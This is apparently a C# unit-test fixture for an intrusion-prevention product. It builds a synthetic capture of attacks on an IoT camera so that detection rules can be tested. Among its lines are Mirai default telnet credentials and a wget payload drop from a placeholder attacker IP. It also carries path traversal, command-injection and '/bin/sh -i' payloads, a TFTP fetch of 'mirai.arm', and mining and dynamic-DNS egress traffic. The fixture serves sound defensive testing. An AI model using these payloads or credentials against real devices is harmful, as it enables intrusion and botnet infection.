using static KalkiEdge.UnitTests.Ips.Peer.TcpFlagsValue;

namespace KalkiEdge.UnitTests.Ips.Peer;

/// <summary>
/// A realistic capture for the shipped rule files: stealth scans, a Mirai-style telnet campaign, attacks on a
/// camera's web UI and RTSP, IoT service probes, and malware-like egress from the device, mixed with benign
/// traffic. TCP sessions are complete and carry one data packet per direction (see SuricataPeerTests).
/// </summary>
public static class IotAttackScenario
{
    public const string Camera = "192.0.2.10";
    public const string Cloud = "198.51.100.20";
    public const string Attacker = "203.0.113.66";
    public const string Viewer = "203.0.113.77";

    public static PeerCapture Build()
    {
        var c = new PeerCapture();
        ushort port = 42000;
        ushort NextPort() => port++;

        // Stealth scans (lone packets, no session).
        foreach (var flags in new[] { F | P | U, None, F, S | F, F | S | R | P | A | U, F | P | U | E | C })
        {
            c.Tcp(Attacker, NextPort(), Camera, 8000, flags);
        }

        // Benign: the camera uploads a snapshot to its cloud, and answers a viewer.
        Session(c, Camera, NextPort(), Cloud, 443, "\u0016\u0003\u0001 tls client hello", "\u0016\u0003\u0003 tls server hello");
        Session(c, Viewer, NextPort(), Camera, 80, "GET /index.html HTTP/1.1\r\nHost: cam\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");

        // Mirai-style telnet campaign: a SYN burst, then logins with default credentials and a payload drop.
        for (int i = 0; i < 12; i++)
        {
            c.Tcp(Attacker, NextPort(), Camera, i % 3 == 0 ? (ushort)2323 : (ushort)23, S);
        }

        foreach (var line in new[] { "root\r\nxc3511\r\n", "admin\r\nvizxv\r\n", "root\r\n7ujMko0admin\r\n", "enable\r\n/bin/busybox MIRAI\r\n", "cd /tmp; wget http://203.0.113.66/m.sh\r\n", "root\r\nZte521\r\n", "root\r\nhi3518\r\n", "support\r\nsupport\r\n" })
        {
            Session(c, Attacker, NextPort(), Camera, 23, line, "\r\n# ");
        }

        // Attacks on the camera's web UI.
        Session(c, Attacker, NextPort(), Camera, 80, "GET /config/getuser?index=0 HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\n\r\nname=admin pass=");
        Session(c, Attacker, NextPort(), Camera, 80, "POST /command.php HTTP/1.1\r\nContent-Length: 12\r\n\r\ncmd=reboot;x", "HTTP/1.1 200 OK\r\n\r\n");
        Session(c, Attacker, NextPort(), Camera, 80, "GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n");
        Session(c, Attacker, NextPort(), Camera, 80, "POST /cgi-bin/upload.cgi HTTP/1.1\r\n\r\nfirmware", "HTTP/1.1 403 Forbidden\r\n\r\n");
        Session(c, Attacker, NextPort(), Camera, 80, "GET /HNAP1/ HTTP/1.1\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n");
        Session(c, Attacker, NextPort(), Camera, 80, "GET /shell?cd+/tmp;wget+http://x/a HTTP/1.1\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n");
        Session(c, Attacker, NextPort(), Camera, 80, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n");
        for (int i = 0; i < 6; i++)
        {
            Session(c, Attacker, NextPort(), Camera, 80, "GET /admin HTTP/1.1\r\nAuthorization: Basic YWRtaW46" + i + "\r\n\r\n", "HTTP/1.1 401 Unauthorized\r\n\r\n");
        }

        // RTSP stream requested from outside, twice (the rule alerts once per source per 5 minutes).
        Session(c, Attacker, NextPort(), Camera, 554, "DESCRIBE rtsp://192.0.2.10/live RTSP/1.0\r\nCSeq: 2\r\n\r\n", "RTSP/1.0 200 OK\r\n\r\n");
        Session(c, Attacker, NextPort(), Camera, 554, "describe rtsp://192.0.2.10/live RTSP/1.0\r\nCSeq: 3\r\n\r\n", "RTSP/1.0 200 OK\r\n\r\n");

        // IoT service probes.
        c.Tcp(Attacker, NextPort(), Camera, 7547, S);
        c.Udp(Attacker, NextPort(), Camera, 1900, "M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n");
        c.Udp(Attacker, NextPort(), Camera, 5683, CoapDiscovery());
        Session(c, Attacker, NextPort(), Camera, 1883, System.Text.Encoding.Latin1.GetString([0x10, 0x10, 0x00, 0x04, (byte)'M', (byte)'Q', (byte)'T', (byte)'T', 4, 2, 0, 60, 0, 4, (byte)'e', (byte)'v', (byte)'i', (byte)'l']), "\u0020\u0002\u0000\u0000");
        Session(c, Attacker, NextPort(), Camera, 1883, System.Text.Encoding.Latin1.GetString([0x82, 0x06, 0x00, 0x01, 0x00, 0x01, (byte)'#', 0x00]), "\u0090\u0003\u0000\u0001\u0000");
        c.Tcp(Attacker, NextPort(), Camera, 445, S);
        c.Tcp(Camera, 445, Attacker, (ushort)(port - 1), S | A, 555, 1001);
        c.IcmpEcho(Attacker, Camera, reply: false, id: 3, sequence: 1, payload: "id;/bin/sh -i");
        c.IcmpEcho(Attacker, Camera, reply: false, id: 4, sequence: 1, payload: new string('A', 56));
        c.Udp(Attacker, NextPort(), Camera, 9999, System.Text.Encoding.Latin1.GetString([.. Enumerable.Repeat((byte)0x90, 16), 0xcc]));

        // Malware-like egress from the camera.
        c.Tcp(Camera, NextPort(), Attacker, 6667, S);
        c.Tcp(Camera, NextPort(), Attacker, 6697, S);
        c.Tcp(Camera, NextPort(), Cloud, 25, S);
        c.Tcp(Camera, NextPort(), Cloud, 22, S);
        c.Udp(Camera, NextPort(), Cloud, 53, Dns("evil.duckdns.org"));
        c.Udp(Camera, NextPort(), Cloud, 53, Dns("cam.no-ip.com"));
        c.Udp(Camera, NextPort(), Cloud, 53, Dns("x.ngrok.io"));
        c.Udp(Camera, NextPort(), Cloud, 53, Dns("time.example.org"));
        c.Udp(Camera, NextPort(), Attacker, 69, System.Text.Encoding.Latin1.GetString([0, 1, .. "mirai.arm\0octet\0"u8]));
        Session(c, Camera, NextPort(), Attacker, 3333, "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n", "{\"id\":1,\"result\":true}\n");
        return c;
    }

    private static void Session(PeerCapture c, string client, ushort clientPort, string server, ushort serverPort, string request, string response)
    {
        var s = c.Conversation(client, clientPort, server, serverPort).Handshake();
        s.ClientSends(request);
        s.ServerSends(response);
        s.Close();
    }

    private static byte[] CoapDiscovery() => [0x40, 0x01, 0x00, 0x01, 0xbb, .. ".well-known"u8, 0x04, .. "core"u8];

    /// <summary>A DNS A query for a name, encoded as labels.</summary>
    private static byte[] Dns(string name)
    {
        var bytes = new List<byte> { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
        foreach (var label in name.Split('.'))
        {
            bytes.Add((byte)label.Length);
            bytes.AddRange(System.Text.Encoding.ASCII.GetBytes(label));
        }

        bytes.AddRange([0, 0, 1, 0, 1]);
        return [.. bytes];
    }
}
